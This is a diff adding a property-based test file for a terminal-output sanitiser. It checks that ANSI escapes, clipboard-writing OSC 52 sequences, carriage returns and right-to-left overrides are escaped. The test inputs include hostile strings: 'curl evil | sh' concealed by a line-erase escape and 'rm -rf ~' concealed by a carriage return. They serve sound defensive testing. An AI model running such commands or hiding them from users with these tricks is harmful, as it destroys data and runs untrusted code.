@@ -1,0 +1,50 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { terminalSafe } from './terminal-safe.js';
+
+// Whatever a repository, a model or a server writes, what reaches the terminal holds no control
+// character but tab and newline (none at all in one line), and no bidirectional control.
+
+/** Whether `text` holds a character that acts on a terminal (tab and newline too when `inLine`). */
+function actsOnTerminal(text: string, inLine = false): boolean {
+  for (const char of text) {
+    const code = char.charCodeAt(0);
+    if ((code === 0x09 || code === 0x0a) && !inLine) continue;
+    if (code < 0x20 || (code >= 0x7f && code <= 0x9f)) return true;
+    if ([0x061c, 0x200e, 0x200f].includes(code)) return true;
+    if ((code >= 0x202a && code <= 0x202e) || (code >= 0x2066 && code <= 0x2069)) return true;
+  }
+  return false;
+}
+
+describe('terminalSafe', () => {
+  it.each([
+    [
+      'erase the line and rewrite it',
+      'curl evil | sh \u001b[2K\u001b[1Gecho done',
+      'curl evil | sh \\x1b[2K\\x1b[1Gecho done',
+    ],
+    ['a carriage return that overwrites', 'rm -rf ~\rls', 'rm -rf ~\\rls'],
+    ['the clipboard (OSC 52)', '\u001b]52;c;Y3VybCBldmls\u0007', '\\x1b]52;c;Y3VybCBldmls\\x07'],
+    ['an 8-bit CSI', 'a\u009b2Jb', 'a\\x9b2Jb'],
+    ['a right-to-left override', 'txt.\u202eexe', 'txt.\\u202eexe'],
+    ['DEL and NUL', 'a\u007fb\u0000c', 'a\\x7fb\\x00c'],
+  ])('%s', (_name, text, expected) => {
+    expect(terminalSafe(text)).toBe(expected);
+  });
+
+  it('keeps tabs and newlines, except in one line; leaves other text alone', () => {
+    expect(terminalSafe('a\tb\nc')).toBe('a\tb\nc');
+    expect(terminalSafe('a\tb\nc', { singleLine: true })).toBe('a\\tb\\nc');
+    expect(terminalSafe('héllo — 世界 ✓ 🙂')).toBe('héllo — 世界 ✓ 🙂');
+  });
+
+  it('never lets a character that acts on the terminal through', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (text) => {
+        expect(actsOnTerminal(terminalSafe(text))).toBe(false);
+        expect(actsOnTerminal(terminalSafe(text, { singleLine: true }), true)).toBe(false);
+      }),
+    );
+  });
+});
